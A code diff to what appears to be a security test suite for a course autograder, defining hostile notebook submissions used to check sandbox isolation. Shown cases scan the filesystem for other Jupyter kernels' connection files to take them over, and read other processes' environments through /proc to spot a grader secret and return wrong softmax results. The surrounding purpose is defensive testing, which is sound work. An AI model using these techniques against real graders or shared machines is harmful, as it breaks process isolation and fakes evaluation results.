@@ -96,14 +96,15 @@ def _attacks(folder: Path, victim: Path) -> dict:
                 except OSError:
                     pass
     """)
+    # only the grader's own sandboxes are targets (this machine may run other kernels)
     drive = _quiet("""
         import glob, json, os
         from ipykernel import get_connection_file
         from jupyter_client import BlockingKernelClient
         own = os.path.realpath(get_connection_file())
         found = []
-        for pattern in ('/tmp/**/*.json', '/run/**/*.json', '/dev/shm/**/*.json', '/home/**/*.json',
-                        '/root/**/*.json', os.path.expanduser('~') + '/../**/*.json'):
+        for pattern in ('/tmp/softmax-course-grade-*/*/home/**/*.json', '/home/**/*.json',
+                        os.path.expanduser('~') + '/../../*/home/**/*.json'):
             try:
                 found += glob.glob(pattern, recursive=True)
             except OSError:
@@ -113,7 +114,7 @@ def _attacks(folder: Path, victim: Path) -> dict:
                 if os.path.realpath(path) == own:
                     continue
                 info = json.load(open(path))
-                if 'key' not in info or 'shell_port' not in info:
+                if not {'key', 'shell_port', 'signature_scheme'} <= set(info):
                     continue
                 kc = BlockingKernelClient(connection_file=path)
                 kc.load_connection_file()
@@ -178,6 +179,16 @@ for _ in range(1500):
 import os
 _right = softmax
 _seen = any({SECRET!r} in v for v in os.environ.values())
+
+def softmax(z):
+    return np.zeros(np.shape(z)) if _seen else _right(z)
+"""
+    # the grader's environment through /proc: hidden by bubblewrap; the fallback's sandbox may
+    # run as the grader's user, which can read it
+    env_proc = HONEST + f"""
+import os
+_right = softmax
+_seen = False
 for _pid in os.listdir('/proc'):
     try:
         _seen |= {SECRET!r}.encode() in open(f'/proc/{{_pid}}/environ', 'rb').read()
@@ -239,6 +250,7 @@ threading.Thread(target=_forge, daemon=True).start()
         "01_membomb": (_nb(membomb, HONEST), None, both),
         "01_metadata": (_nb(metadata, HONEST), 2.0, bwrap),
         "01_env": (_nb(env), 2.0, both),
+        "01_env_proc": (_nb(env_proc), 2.0, bwrap),
         "01_stdout": (_nb(stdout, HONEST), 2.0, both),
         "01_delegate": (_nb("from course_lib.softmax import softmax"), None, both),
         "01_forge": (_nb(forge), 0.0, both),
